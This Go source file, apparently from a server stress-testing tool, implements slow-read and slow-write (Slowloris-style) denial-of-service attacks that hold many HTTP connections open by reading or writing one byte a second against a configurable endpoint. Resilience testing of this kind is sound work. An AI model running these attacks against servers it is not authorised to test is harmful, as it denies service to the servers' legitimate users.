// Copyright The Callbraid Authors
// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"context"
	"fmt"
	"net"
	"sync/atomic"
	"time"
)

// comesAgain is the time between two connections of a slow peer.
const comesAgain = 100 * time.Millisecond

// SlowReaders request pages of an HTTP server, and read a byte a second.
type SlowReaders struct {
	Endpoint string
	// Readers request the Paths in turn, all at the same time.
	Paths   []string
	Readers int

	tally
}

// Attack runs all readers until ctx ends.
func (n *SlowReaders) Attack(ctx context.Context) error {
	var turn atomic.Int64
	n.repeat(ctx, n.Endpoint, n.Readers, comesAgain, func(connection net.Conn) {
		n.read(ctx, connection, n.Paths[int(turn.Add(1))%len(n.Paths)])
	})
	return nil
}

func (n *SlowReaders) read(ctx context.Context, connection net.Conn, path string) {
	// A small buffer lets the server notice soon that the client does not read.
	_ = connection.(*net.TCPConn).SetReadBuffer(1 << 10) // a wish
	if _, err := fmt.Fprintf(connection, "GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n", path); err != nil {
		return
	}
	for b := make([]byte, 1); pause(ctx, time.Second); {
		if _, err := connection.Read(b); err != nil {
			n.refused.Add(1)
			return
		}
		n.bytes.Add(1)
	}
}

// Sent returns the number of requested pages.
func (n *SlowReaders) Sent() string {
	return fmt.Sprintf("%d readers, %d pages, %d ended by the server", n.Readers, n.connections.Load(), n.refused.Load())
}

// SlowWriters begin a request over HTTP, or an agent's first message, and continue with a byte a
// second.
type SlowWriters struct {
	Endpoint string
	// Text is the text that they write repeatedly.
	Text string
	// Writers is the number of simultaneous writers.
	Writers int

	tally
}

// Attack runs all writers until ctx ends.
func (n *SlowWriters) Attack(ctx context.Context) error {
	n.repeat(ctx, n.Endpoint, n.Writers, comesAgain, func(connection net.Conn) { n.write(ctx, connection) })
	return nil
}

func (n *SlowWriters) write(ctx context.Context, connection net.Conn) {
	for i := 0; ; i++ {
		if _, err := connection.Write([]byte{n.Text[i%len(n.Text)]}); err != nil {
			n.refused.Add(1)
			return
		}
		n.bytes.Add(1)
		if !pause(ctx, time.Second) {
			return
		}
	}
}

// Sent returns the number of connections.
func (n *SlowWriters) Sent() string {
	return fmt.Sprintf("%d writers, %d connections, %d ended by the server", n.Writers, n.connections.Load(), n.refused.Load())
}
